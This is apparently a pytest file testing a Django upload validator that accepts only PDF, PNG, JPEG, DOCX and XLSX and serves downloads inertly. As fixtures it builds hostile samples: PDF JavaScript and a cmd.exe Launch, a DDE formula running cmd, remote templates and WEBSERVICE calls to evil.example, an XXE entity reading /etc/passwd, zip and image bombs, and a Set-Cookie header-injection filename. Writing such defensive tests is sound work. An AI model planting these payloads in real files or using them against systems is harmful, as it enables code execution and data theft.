"""What is taken in is judged by what it holds, kept under the hash of its bytes, and handed out so that nothing runs."""

import hashlib
import io
import struct
import time
import zipfile
import zlib
from xml.sax.saxutils import escape

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from pikepdf import Array, Dictionary, Name, String

from jcb import files, office_look
from jcb.models import StoredFile
from tests import papers

PNG = papers.picture()
JPG = papers.picture("JPEG")
TYPES = '<Types xmlns="t"><Override PartName="/word/document.xml" ContentType="main+xml"/></Types>'
WORDS = "<document>Two sentences.</document>"


def upload(content: bytes, name: str = "paper.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def pdf_of(change=None, **saving) -> bytes:
    """A page of PDF, with whatever `change` puts in."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        if change:
            change(pdf)
        out = io.BytesIO()
        pdf.save(out, **saving)
    return out.getvalue()


def office(entries: dict[str, str | bytes] | None = None, *, main: str = "word/document.xml") -> bytes:
    """A Word document (or what `main` makes of it), with more entries or others."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": TYPES, main: WORDS, **(entries or {})}.items():
            archive.writestr(name, content)
    return out.getvalue()


def _flipped(archive: bytes) -> bytes:
    """The archive with one bit of its first entry turned over."""
    at = 30 + len("[Content_Types].xml") + 20
    return archive[:at] + bytes([archive[at] ^ 1]) + archive[at + 1 :]


def refusal(content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        files.take_in(upload(content))
    return refused.value.messages[0]


# Content decides


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf_of(), "pdf"),
        (PNG, "png"),
        (JPG, "jpg"),
        (office(), "docx"),
        (office(main="xl/workbook.xml"), "xlsx"),
    ],
)
@pytest.mark.parametrize("name", ["paper.exe", "paper", "../../etc/passwd", "paper.pdf"])
def test_a_file_is_what_it_holds_whatever_it_is_called(content, kind, name):
    assert files.take_in(upload(content, name)) == (content, kind)


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00 a program",
        b"#!/bin/sh\necho",
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old Word document",
        b"GIF89a",
        b"{\\rtf1 words}",
        b" %PDF-1.7 not at the start",
        b"x",
    ],
)
def test_what_is_none_of_the_five_kinds_is_refused_with_what_to_do(content):
    assert refusal(content).startswith("This kind of file cannot be kept. Save it as a PDF")


def test_an_archive_of_another_kind_is_refused():
    assert "no Word document and no spreadsheet" in refusal(office(main="somewhere/else.xml"))


def test_an_empty_file_is_refused():
    assert refusal(b"").startswith("The file is empty")


def test_a_file_that_is_too_large_is_refused_before_it_is_read(settings):
    settings.UPLOAD_MEGABYTES = 1

    class Unread:
        size = 1024 * 1024 + 1

        def read(self, *args):
            raise AssertionError("It was read.")

    with pytest.raises(ValidationError, match="larger than 1 MB"):
        files.take_in(Unread())


def test_exactly_the_limit_is_taken_in(settings):
    settings.UPLOAD_MEGABYTES = 1
    content = JPG.ljust(1024 * 1024, b"\0")
    assert files.take_in(upload(content))[1] == "jpg"


# PDF


def _open_action(*, indirect: bool, **action):
    def put(pdf):
        found = Dictionary(**action)
        pdf.Root.OpenAction = pdf.make_indirect(found) if indirect else found

    return put


SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
RUNNING = {
    "a script on opening": _open_action(indirect=True, **SCRIPT),
    "a script on opening, written into the catalogue": _open_action(indirect=False, **SCRIPT),
    "a script behind another action": _open_action(
        indirect=False, S=Name.GoTo, D=Array([]), Next=Array([Dictionary(**SCRIPT)])
    ),
    "a program to start": _open_action(indirect=False, S=Name.Launch, F=String("cmd.exe")),
    "a form that is sent": _open_action(indirect=False, S=Name.SubmitForm, F=String("https://x.example")),
    "named scripts": lambda pdf: setattr(
        pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(**SCRIPT)])))
    ),
    "a script on a page": lambda pdf: setattr(pdf.pages[0].obj, "AA", Dictionary(O=Dictionary(**SCRIPT))),
    "a form of forms": lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(XFA=String("<xdp/>"))),
    "a file inside": lambda pdf: pdf.attachments.__setitem__("secret.exe", b"MZ"),
    "a file in an annotation": lambda pdf: setattr(
        pdf.pages[0].obj,
        "Annots",
        Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=Dictionary(EF=Dictionary(F=pdf.make_stream(b"MZ"))))]),
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", RUNNING)
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in object streams"])
def test_a_pdf_that_carries_something_that_runs_is_refused(what, packed):
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    assert "carries a script, a form or another file" in refusal(pdf_of(RUNNING[what], object_stream_mode=mode))


def test_links_and_outlines_are_no_reason_to_refuse_a_pdf():
    def link(pdf):
        action = Dictionary(S=Name.URI, URI=String("https://example.org"))
        pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action)])

    assert files.take_in(upload(pdf_of(link)))[1] == "pdf"


@pytest.mark.parametrize("passwords", [{"user": "open sesame", "owner": "x"}, {"user": "", "owner": "x"}])
def test_a_locked_pdf_is_refused_since_no_pack_could_take_it_in(passwords):
    assert "locked with a password" in refusal(pdf_of(encryption=pikepdf.Encryption(**passwords)))


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.7\n" + b"\x00\xff" * 500, b"%PDF-" + b"9" * 100])
def test_a_damaged_pdf_is_refused(content):
    assert "damaged" in refusal(content)


def test_a_pdf_without_pages_is_refused():
    with pikepdf.new() as pdf:
        out = io.BytesIO()
        pdf.save(out)
    assert "damaged" in refusal(out.getvalue())


# Word and Excel


MACROS, DOCUMENT_TYPE, DDE = (
    "carries macros, controls or another file",
    "document type or entities",
    "asks another program",
)
ELSEWHERE, TEMPLATE = "fetches something from another file", "fetches its template from another computer"


def relation(kind: str, target: str) -> str:
    return (
        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize(
    ("entries", "says"),
    [
        ({"word/vbaProject.bin": b"macro"}, MACROS),
        ({"WORD/VBAPROJECT.BIN": b"macro"}, MACROS),
        ({"word/embeddings/oleObject1.bin": b"object"}, MACROS),
        ({"word/embeddings/sheet.xlsx": b"object"}, MACROS),
        ({"word/activeX/activeX1.xml": "<ax/>"}, MACROS),
        ({"xl/oleObject1.bin": b"object"}, MACROS),
        (
            {
                "[Content_Types].xml": TYPES.replace(
                    "main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            },
            MACROS,
        ),
        (
            {
                "word/_rels/document.xml.rels": '<Relationships><Relationship Type="http://x/vbaProject" Target="x.bin"/></Relationships>'
            },
            MACROS,
        ),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}, TEMPLATE),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file://server/t.dotm")}, TEMPLATE),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\server\share\t.dotm")}, TEMPLATE),
        ({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///Templates/Board.dotx")}, ELSEWHERE),
        ({"word/_rels/document.xml.rels": relation("image", "https://evil.example/pixel.png")}, ELSEWHERE),
        ({"word/_rels/document.xml.rels": relation("oleObject", "file://server/share")}, ELSEWHERE),
        ({"word/document.xml": '<document><p><r><fldSimple instr="DDEAUTO cmd.exe x"/></r></p></document>'}, DDE),
        ({"word/document.xml": '<document><p><fldSimple instr="INCLUDETEXT x"/></p></document>'}, ELSEWHERE),
        ({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}, DOCUMENT_TYPE),
        ({"word/styles.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'.encode("utf-16")}, DOCUMENT_TYPE),
        ({"word/header1.xml": "<a>" * 300 + "</a>" * 300}, "nested too deeply"),
        ({"WORD/document.xml": WORDS}, "two parts of one name"),
    ],
    ids=str,
)
def test_a_document_with_macros_objects_or_a_way_out_is_refused(entries, says):
    assert says in refusal(office(entries))


@pytest.mark.parametrize(
    ("formula", "says"), [("cmd|'/c calc'!A0", DDE), ('_xlfn.WEBSERVICE("https://evil.example/")', ELSEWHERE)]
)
def test_a_spreadsheet_whose_formulas_reach_out_is_refused(formula, says):
    sheet = {"Costs": f"<sheetData><row><c><f>{escape(formula)}</f></c></row></sheetData>"}
    assert says in refusal(papers.xlsx(sheet))


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n",
        b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
        b"\xff\xd8\xff\xe0 and no picture",
        PNG[:40],
        PNG[:-20] + bytes([PNG[-20] ^ 1]) + PNG[-19:],
    ],
    ids=["nothing", "a script", "words", "half", "one bit turned over"],
)
def test_what_only_begins_like_a_picture_is_refused(content):
    assert "The picture is damaged" in refusal(content)


@pytest.mark.parametrize("size", [(30_000, 30_000), (2**31 - 1, 2**31 - 1)])
def test_a_picture_that_would_unpack_into_gigabytes_is_refused(size):
    header = b"IHDR" + struct.pack(">LLBBBBB", *size, 8, 6, 0, 0, 0)
    content = PNG[:12] + header + struct.pack(">L", zlib.crc32(header)) + PNG[33:]
    assert "too large to be shown" in refusal(content)


def test_a_link_to_a_web_page_is_no_reason_to_refuse_a_document():
    link = '<Relationships><Relationship Type="http://x/hyperlink" Target="https://a.b" TargetMode="External"/></Relationships>'
    assert files.take_in(upload(office({"word/_rels/document.xml.rels": link})))[1] == "docx"


def test_a_bomb_is_found_while_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(office_look, "MOST_UNPACKED", 5 * 1024 * 1024)
    bomb = office({"word/media/image1.bin": b"\0" * (6 * 1024 * 1024)})
    assert len(bomb) < 20_000
    assert "unpacks into something too large" in refusal(bomb)


def test_many_entries_that_are_each_small_enough_still_count_together(monkeypatch):
    monkeypatch.setattr(office_look, "MOST_UNPACKED", 5 * 1024 * 1024)
    assert "too large" in refusal(office({f"word/media/{n}.bin": b"\0" * 1024 * 1024 for n in range(6)}))


def test_an_archive_of_too_many_entries_is_refused():
    many = office({f"word/media/{n}.bin": b"" for n in range(office_look.MOST_ENTRIES)})
    assert "too large" in refusal(many)


def test_an_archive_whose_directory_lies_about_a_size_is_refused():
    honest = office({"word/media/image1.bin": b"\0" * 2_000_000})
    lying = bytearray(honest)
    size = struct.pack("<L", 2_000_000)
    position = lying.find(size)
    while position != -1:
        lying[position : position + 4] = struct.pack("<L", 10)
        position = lying.find(size, position)
    assert "damaged" in refusal(bytes(lying))


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04 and then nothing of the kind",
        office()[:-30],
        _flipped(office()),
        office({"word/styles.xml": "<not closed"}),
        office({"word/styles.xml": "<a></b>"}),
    ],
)
def test_a_damaged_archive_is_refused(content):
    assert "damaged" in refusal(content)


def test_a_full_sized_bomb_is_refused_within_five_seconds():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("word/document.xml", WORDS)
        with archive.open("word/media/image1.bin", "w") as entry:
            for _ in range(201):
                entry.write(b"\0" * 1024 * 1024)
    begun = time.process_time()
    assert "too large" in refusal(out.getvalue())
    assert time.process_time() - begun < 5


# Keeping


@pytest.fixture
def kept(db, observer) -> StoredFile:
    return files.keep(PNG, extension="png", by=observer)


def test_a_file_is_named_by_its_hash(kept, settings):
    digest = hashlib.sha256(PNG).hexdigest()
    assert files.path_of(kept) == settings.FILES_ROOT / f"{digest}.png"
    assert files.path_of(kept).read_bytes() == PNG
    assert (kept.sha256, kept.size, kept.media_type) == (digest, len(PNG), "image/png")


def test_the_same_bytes_are_kept_once_and_the_first_to_bring_them_stays_named(kept, secretariat, observer, settings):
    again = files.keep(PNG, extension="png", by=secretariat)
    assert again == kept
    assert again.by == observer
    assert len(list(settings.FILES_ROOT.iterdir())) == 1


def test_a_file_that_is_there_is_never_written_again(kept):
    before = files.path_of(kept).stat()
    files.keep(PNG, extension="png", by=None)
    after = files.path_of(kept).stat()
    assert (before.st_mtime_ns, before.st_ino) == (after.st_mtime_ns, after.st_ino)


@pytest.mark.django_db
def test_the_bytes_lie_on_disk_before_the_row_is_written(settings, django_assert_num_queries):
    settings.FILES_ROOT.parent.mkdir(exist_ok=True)
    settings.FILES_ROOT.write_text("a file stands where the folder should be")
    with django_assert_num_queries(0), pytest.raises(FileExistsError):
        files.keep(PNG, extension="png", by=None)
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_no_half_written_file_is_left_behind(settings, kept):
    assert [path.name for path in settings.FILES_ROOT.iterdir()] == [f"{kept.sha256}.png"]


# Handing out


def test_a_download_is_inert_and_kept_by_nobody_on_the_way(kept):
    answer = files.download(RequestFactory().get("/"), kept, name="evidence.png")
    assert answer["Content-Disposition"] == 'attachment; filename="evidence.png"'
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cache-Control"] == "private, no-store"
    assert answer["Content-Type"] == "image/png"
    assert b"".join(answer.streaming_content) == PNG
    answer.close()


@pytest.mark.parametrize("name", ['a"b.png', "a\r\nSet-Cookie: x=1.png", "Ünïcode – Größe.png", "../../x.png"])
def test_a_name_somebody_typed_cannot_write_headers(kept, name):
    answer = files.download(RequestFactory().get("/"), kept, name=name)
    answer.close()
    assert "\n" not in answer["Content-Disposition"]
    assert "Set-Cookie" not in answer.headers
